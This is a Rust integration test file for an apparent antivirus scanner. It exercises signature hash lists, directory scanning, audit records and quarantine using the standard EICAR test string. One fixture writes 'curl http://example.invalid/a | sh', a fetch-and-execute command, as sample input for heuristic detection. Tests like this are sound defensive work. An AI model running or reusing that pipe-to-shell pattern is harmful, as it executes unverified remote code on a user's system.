//! End-to-end flow: hash lists on disk, scan, audit, quarantine.

use std::sync::Arc;
use tempfile::tempdir;
use vigil::audit::{AuditSink, JsonLineAudit};
use vigil::core::config::{Config, SnifferKind};
use vigil::detection::SignatureStore;
use vigil::quarantine::QuarantineVault;
use vigil::scanner::Classifier;
use vigil::utils::HashCalculator;
use vigil::ScanStatus;

const EICAR: &str = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

#[tokio::test]
async fn scan_directory_from_hash_lists() {
    let dir = tempdir().unwrap();
    let mut config = Config::rooted_at(dir.path());
    config.detection.sniffer = SnifferKind::Magic;
    config.scan.scan_threads = 2;

    std::fs::write(
        config.signatures.md5_list_file(),
        format!(
            "# test list\n{},EICAR-Test-File\nnot-a-hash\n",
            HashCalculator::md5_bytes(EICAR.as_bytes()).to_uppercase()
        ),
    )
    .unwrap();

    let store = Arc::new(SignatureStore::open(config.signatures.clone()).unwrap());
    assert_eq!(store.info().unwrap().md5_count, 1);
    assert!(config.signatures.cache_file().exists());

    let target = dir.path().join("target");
    std::fs::create_dir_all(target.join("sub")).unwrap();
    std::fs::write(target.join("eicar.com"), EICAR).unwrap();
    std::fs::write(target.join("sub/setup.txt"), "curl http://example.invalid/a | sh").unwrap();
    std::fs::write(target.join("sub/plain.txt"), "hello there").unwrap();

    let config = Arc::new(config);
    let classifier = Classifier::new(Arc::clone(&config), Arc::clone(&store));
    let results = classifier.scan_directory(&target).await.unwrap();

    assert_eq!(results.len(), 3);
    let eicar = &results[&target.join("eicar.com")];
    assert_eq!(eicar.status, ScanStatus::Infected);
    assert_eq!(eicar.threat_name.as_deref(), Some("EICAR-Test-File"));
    assert_eq!(
        results[&target.join("sub/setup.txt")].status,
        ScanStatus::HeuristicDetected
    );
    assert_eq!(results[&target.join("sub/plain.txt")].status, ScanStatus::Clean);

    let audit = JsonLineAudit::from_config(&config.logging);
    for report in results.values() {
        audit.record_scan(report);
    }
    assert_eq!(audit.scan_history().unwrap().len(), 3);

    let vault = QuarantineVault::from_config(&config.quarantine).unwrap();
    let item = vault.quarantine(eicar).unwrap();
    assert!(!target.join("eicar.com").exists());
    assert_eq!(vault.list().unwrap().len(), 1);

    vault.restore(&item.id).unwrap();
    assert_eq!(
        std::fs::read_to_string(target.join("eicar.com")).unwrap(),
        EICAR
    );
}

#[test]
fn snapshot_round_trip_survives_reload() {
    let dir = tempdir().unwrap();
    let config = Config::rooted_at(dir.path());
    std::fs::write(
        config.signatures.sha256_list_file(),
        format!("{}\n", HashCalculator::sha256_bytes(b"hello")),
    )
    .unwrap();

    let first = SignatureStore::open(config.signatures.clone()).unwrap();
    let loaded = first.snapshot().unwrap();

    // Hash lists are no longer needed once the snapshot exists
    std::fs::remove_file(config.signatures.sha256_list_file()).unwrap();

    let second = SignatureStore::open(config.signatures.clone()).unwrap();
    assert_eq!(*second.snapshot().unwrap(), *loaded);
    assert_eq!(
        second
            .lookup(
                &HashCalculator::sha256_bytes(b"hello"),
                vigil::detection::HashAlgorithm::Sha256
            )
            .unwrap()
            .as_deref(),
        Some("Generic SHA256 Threat")
    );
}

#[test]
fn single_file_verdicts() {
    let dir = tempdir().unwrap();
    let mut config = Config::rooted_at(dir.path());
    config.detection.sniffer = SnifferKind::Magic;
    let store = Arc::new(SignatureStore::open(config.signatures.clone()).unwrap());
    let classifier = Classifier::new(Arc::new(config), store);

    assert_eq!(classifier.scan_file(dir.path()).status, ScanStatus::NotFile);
    assert_eq!(
        classifier.scan_file(&dir.path().join("missing")).status,
        ScanStatus::NotFound
    );
}
